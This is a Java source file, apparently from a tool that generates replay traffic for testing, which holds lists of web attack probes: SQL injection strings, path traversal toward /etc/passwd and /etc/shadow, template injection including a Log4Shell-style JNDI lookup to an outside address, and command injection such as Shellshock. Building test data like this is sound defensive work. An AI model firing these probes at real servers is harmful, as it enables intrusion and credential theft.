package io.gatewatch.replaydata.generate;

/** Texts with which people try whether a server takes data for code. None of them does anything. */
final class Payloads {
  /** What the text is made for. */
  enum Family {
    SQL(
        "1' OR '1'='1",
        "1' OR 1=1-- -",
        "1 UNION SELECT username,password FROM users--",
        "1';WAITFOR DELAY '0:0:5'--",
        "1) AND SLEEP(5)#",
        "' AND 1=CONVERT(int,@@version)--"),
    TRAVERSAL(
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "....//....//....//etc/hosts",
        "..\\..\\..\\windows\\win.ini",
        "/var/www/../../etc/passwd",
        "..;/..;/manager/html"),
    TEMPLATE(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{config.items()}}",
        "${jndi:ldap://198.18.0.77/a}"),
    COMMAND(
        ";id",
        "|cat /etc/passwd",
        "$(sleep 5)",
        "`whoami`",
        "&& ping -c 3 198.18.0.77",
        "() { :; }; /bin/cat /etc/passwd");

    private final String[] texts;

    Family(String... texts) {
      this.texts = texts;
    }
  }

  private Payloads() {}

  /** One of the family, with a scatter of its own so that no two attacks are alike. */
  static String draw(Family family, Draw draw) {
    String text = draw.pick(family.texts);
    return text.replace("7*7", draw.below(90) + "*" + (2 + draw.below(90)))
        .replace("5)", (2 + draw.below(9)) + ")")
        .replace("1=1", draw.chance(0.5) ? "1=1" : "2>1");
  }
}
